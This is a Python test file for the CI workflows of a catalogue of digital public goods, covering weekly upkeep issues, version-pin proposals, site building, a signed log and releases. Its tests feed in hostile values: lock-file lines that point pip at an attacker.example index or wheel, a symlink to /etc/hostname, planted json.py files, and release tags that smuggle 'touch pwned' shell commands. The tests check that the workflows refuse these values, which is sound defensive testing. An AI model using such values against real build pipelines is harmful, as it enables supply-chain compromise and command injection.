"""What is done by the calendar and on the main branch: the list of what needs care, versions, the site, a release."""

import os
import re
import shutil
import subprocess
from datetime import UTC, datetime

import pytest

from dpg import kinds
from dpg.checking import check_paths
from dpg.model.address_uses import addresses_of
from dpg.model.link_report import LinkHistory
from dpg.model.link_result import LinkResult, Outcome
from dpg.project.web.link_state import write_state
from dpg.transparency.keys import private_key_of
from support import TIME, commit
from workflows.runner import run_job

MAIN = {"repository": {"default_branch": "main"}}
PUSH = 'python -P -m robots push-log "$RUNNER_TEMP/log/log.bundle"'
LOCKS = ("requirements.lock", "requirements-pools.lock")


@pytest.fixture
def good_news(clone_of):
    """What a run of today remembers of the addresses, so that this one asks no server."""
    clone = clone_of("reader")
    checked = check_paths([clone.path / "goods"], project=clone.path)
    today = datetime.fromtimestamp(int(TIME), UTC).date().isoformat()
    visit = LinkResult(outcome=Outcome.ANSWERED, status=200)
    known = LinkHistory(visit=visit, seen=today, last_good=today)
    return dict.fromkeys(
        addresses_of(record for kind in kinds.KINDS for record in checked.whole(kind)), known
    )


def test_every_week_one_issue_lists_what_needs_care(clone_of, hub, good_news):
    clone = clone_of("run")
    write_state(clone.path / "state", good_news)
    hub.answer("actions/workflows/weekly.yml/runs", {"workflow_runs": [{"id": 900}]})
    hub.answer("actions/runs/900/artifacts", {"artifacts": [{"expired": False}]})
    hub.answer("run download", {"files": {"links.json": clone.read("state"), "json.py": "raise SystemExit"}})
    done = run_job("weekly.yml", "upkeep", clone, MAIN, hub=hub)
    assert done.failed == [], done.said
    ((method, path, data),) = hub.changes()
    assert (method, path, data["labels"]) == ("POST", "issues", ["upkeep"])
    assert f"{len(good_news)} addresses on" in data["body"]
    assert not (clone.path / "json.py").exists()
    assert "# Facts that grew old" in data["body"]
    assert "# Needs and offers to renew" in data["body"]
    hub.answer("issues", [{"number": 33}])
    hub.forget()
    shutil.rmtree(runner_temp(clone) / "addresses")
    run_job("weekly.yml", "upkeep", clone, MAIN, hub=hub)
    assert [change[:2] for change in hub.changes()] == [("PATCH", "issues/33")]


@pytest.mark.parametrize(
    ("runs", "artifacts"),
    [([], []), ([{"id": 900}], []), ([{"id": 900}], [{"expired": True}])],
    ids=["first week", "nothing left", "expired"],
)
def test_without_anything_to_recall_a_week_starts_anew(clone_of, hub, runs, artifacts):
    hub.answer("actions/workflows/weekly.yml/runs", {"workflow_runs": runs})
    hub.answer("actions/runs/900/artifacts", {"artifacts": artifacts})
    dpg = (".venv/bin/dpg links --state links.json --output links.md",)
    clone = clone_of("run")
    clone.write("links.md", "# Web addresses of the records\n")
    done = run_job("weekly.yml", "upkeep", clone, MAIN, hub=hub, left_out=dpg)
    assert done.failed == []
    assert not [asked for asked in hub.asked if asked["words"][0] == "run"]


def runner_temp(clone):
    """The folder outside a clone that a job has for its own files."""
    return clone.path.parent / f"{clone.path.name}-runner"


def receive_locks(clone, added="", name=LOCKS[0]):
    """Leaves what the job `pin` uploads where the next job downloads it."""
    folder = runner_temp(clone) / "lock"
    folder.mkdir(parents=True, exist_ok=True)
    for one in LOCKS:
        (folder / one).write_text(clone.read(one) + (added if one == name else ""))
    return folder


@pytest.mark.parametrize("name", LOCKS)
def test_versions_that_were_pinned_anew_are_proposed_and_tested(clone_of, hub, origin, name):
    clone = clone_of("run")
    receive_locks(clone)
    assert run_job("versions.yml", "propose", clone, MAIN, hub=hub).failed == []
    assert hub.asked == []
    folder = receive_locks(clone, "# newer\n", name)
    (folder / "tooling").mkdir()
    (folder / "tooling" / "json.py").write_text("raise SystemExit('ran')")
    assert run_job("versions.yml", "propose", clone, MAIN, hub=hub).failed == []
    assert hub.changes()[0][:2] == ("POST", "pulls")
    started = [path for _, path, _ in hub.changes() if path.endswith("/dispatches")]
    assert started == [f"actions/workflows/{file}.yml/dispatches" for file in ("check", "test")]
    assert origin.git("diff", "--name-only", "main", "pinned-versions") == name


@pytest.mark.parametrize(
    "added",
    [
        "--index-url https://attacker.example/simple\n",
        "evil @ https://attacker.example/evil.whl\n",
        "-e .\n",
        "a==1 --config-settings=x\n",
    ],
)
def test_a_lock_file_with_anything_but_versions_is_refused(clone_of, hub, added):
    clone = clone_of("run")
    receive_locks(clone, added)
    done = run_job("versions.yml", "propose", clone, MAIN, hub=hub)
    assert done.failed
    assert "neither a pinned package nor a hash" in done.said
    assert hub.asked == []


def test_a_lock_file_that_is_a_link_is_refused(clone_of, hub):
    clone = clone_of("run")
    file = receive_locks(clone) / LOCKS[0]
    file.unlink()
    file.symlink_to("/etc/hostname")
    assert "no plain file" in run_job("versions.yml", "propose", clone, MAIN, hub=hub).said


def test_after_a_closed_proposal_newer_versions_are_proposed_again(clone_of, hub, origin):
    hub.answer("pulls", [{"number": 60, "state": "closed"}])
    clone = clone_of("run")
    receive_locks(clone, "# newer\n")
    assert run_job("versions.yml", "propose", clone, MAIN, hub=hub).failed == []
    assert hub.changes()[0][:2] == ("POST", "pulls")


def test_the_site_is_built_for_the_address_at_which_it_is_published(clone_of, hub):
    clone = clone_of("run")
    done = run_job("publish.yml", "build", clone, MAIN, hub=hub)
    assert done.failed == [], done.said
    assert "https://goods.example.org/here/goods/dhis2/" in "".join(
        path.read_text("utf-8") for path in (clone.path / "site").glob("sitemap*.xml")
    )
    page = (clone.path / "site/goods/dhis2/index.html").read_text("utf-8")
    assert "https://github.com/example/goods/edit/main/goods/dhis2.yaml" in page
    assert (clone.path / "site/data/checksums.txt").is_file()


@pytest.fixture
def log_key():
    """The private key of a log."""
    return private_key_of("goods.example.org/here/log", bytes(range(32))).text


def start_log(clone, key):
    """Starts the log as a maintainer does: on a branch without any other file."""
    words = [".venv/bin/dpg", "log", "append", "log", "--new", "goods.example.org/here/log"]
    subprocess.run(words, cwd=clone.path, env={**os.environ, "DPG_LOG_KEY": key}, check=True)
    shutil.move(clone.path / "log", clone.path.parent / "state")
    clone.git("checkout", "--quiet", "--orphan", "log")
    clone.git("rm", "-rqf", ".")
    for path in (clone.path.parent / "state").iterdir():
        shutil.move(path, clone.path / path.name)
    clone.git("add", "checkpoint", "vkey", "tile")
    clone.git("commit", "--quiet", "--message=The log")
    clone.git("push", "--quiet", "origin", "log")


def built_with_log(clone, hub, key):
    return run_job("publish.yml", "build", clone, MAIN, hub=hub, secrets={"DPG_LOG_KEY": key})


def push_log(clone, hub):
    folder = runner_temp(clone) / "log"
    folder.mkdir()
    shutil.copy(clone.path / "log.bundle", folder)
    return run_job("publish.yml", "log", clone, MAIN, hub=hub, needs={"build": {"log": "log"}})


def test_a_publication_appends_to_the_log_and_a_second_one_at_once_fails(clone_of, hub, origin, log_key):
    start_log(clone_of("maintainer"), log_key)
    before = origin.git("show", "log:checkpoint").splitlines()
    first, second = clone_of("first"), clone_of("second")
    for clone, name in ((first, "One name"), (second, "Another name")):
        clone.write(
            "goods/dhis2.yaml", clone.read("goods/dhis2.yaml").replace("name: DHIS2", f"name: {name}")
        )
        clone.commit()
        done = built_with_log(clone, hub, log_key)
        assert done.failed == [], done.said
        assert "1 entry appended." in done.said
        assert (clone.path / "site" / "log" / "proofs" / "goods" / "dhis2.tlog-proof").is_file()
    assert push_log(first, hub).failed == []
    assert push_log(second, hub).failed == [PUSH]
    after = origin.git("show", "log:checkpoint").splitlines()
    assert (int(before[1]) + 1, after[1]) == (
        int(after[1]),
        first.read("site/log/checkpoint").splitlines()[1],
    )
    assert first.read("site/log/checkpoint") == origin.git("show", "log:checkpoint") + "\n"


def test_without_the_branch_there_is_no_log_and_none_is_started(clone_of, hub):
    clone = clone_of("run")
    left_out = tuple(
        f".venv/bin/dpg {words}"
        for words in (
            "check", 'build --dumps --site-url "$SITE_URL" --repository-url "$REPOSITORY_URL"',
            "verify site --no-rebuild",
        )
    )  # fmt: skip
    done = run_job("publish.yml", "build", clone, MAIN, hub=hub, left_out=left_out)
    assert done.codes == {"make setup": 0, "python -P -m robots fetch-log log": 0}
    assert not (clone.path / "log").exists()
    assert run_job("publish.yml", "log", clone, MAIN, hub=hub).codes == {}


def test_records_with_errors_are_not_published(clone_of):
    clone = clone_of("run")
    clone.write("goods/dhis2.yaml", "name: [\n")
    done = run_job("publish.yml", "build", clone, MAIN)
    assert done.failed == [".venv/bin/dpg check"]
    assert not (clone.path / "site").exists()


def test_a_release_takes_its_name_from_its_tag_whatever_it_is(clone_of, hub):
    clone = clone_of("run")
    for name in ("goods.csv", "checksums.txt"):
        clone.write(f"release/{name}", "x")
    tag = 'v1"; touch pwned; "'
    done = run_job("release.yml", "publish", clone, MAIN, hub=hub, ref_name=tag)
    assert done.failed == []
    (asked,) = hub.asked
    assert asked["words"][:3] == ["release", "create", tag]
    assert asked["words"][-2:] == ["release/checksums.txt", "release/goods.csv"]
    assert not list(clone.path.rglob("pwned*"))


def released(clone, version):
    """Set the version, describe it in the changelog and commit both at one moment."""
    settings = re.sub(r'(?m)^version = ".*"$', f'version = "{version}"', clone.read("pyproject.toml"))
    clone.write("pyproject.toml", settings)
    clone.write("CHANGELOG.md", f"# Changelog\n\n## {version} (2026-12-01)\n\n- Faster.\n")
    commit(clone.path)
    (clone.path / ".venv" / "ready").touch()  # newer than pyproject.toml, so that nothing is installed


def test_a_tag_that_is_not_the_version_of_the_program_is_not_released(clone_of):
    clone = clone_of("run")
    released(clone, "9.8.7")
    done = run_job("release.yml", "build", clone, MAIN, ref_name="v9.8.8; touch pwned")
    assert done.codes == {"make notes": 2}
    assert "is not v9.8.7, the version in pyproject.toml" in done.said
    assert not list(clone.path.rglob("pwned*"))


def test_a_release_carries_what_everybody_can_make_again_to_the_byte(clone_of):
    sums = []
    for name in ("run", "again"):
        clone = clone_of(name, fresh=name == "again")
        released(clone, "9.8.7")
        assert run_job("release.yml", "build", clone, MAIN, ref_name="v9.8.7").failed == []
        assert "This is the first release, with 2 goods, " in clone.read("notes.md")
        folder = clone.path / "release"
        subprocess.run(["sha256sum", "--check", "--quiet", "checksums.txt"], cwd=folder, check=True)
        assert all(path.is_file() for path in folder.iterdir())
        sums.append(clone.read("release/checksums.txt"))
    assert {line.split()[1] for line in sums[0].splitlines()} >= {
        "data.tar.gz", "site.tar.gz", "goods.csv", "goods.full.json", "goods.ndjson", "goods.sqlite", "goods.xlsx", "dpg-9.8.7-py3-none-any.whl",
    }  # fmt: skip
    assert sums[0] == sums[1]
    packed = subprocess.run(
        ["tar", "-tzf", "release/site.tar.gz"], cwd=clone.path, capture_output=True, text=True, check=True
    ).stdout
    assert "site/goods/dhis2/index.html\n" in packed
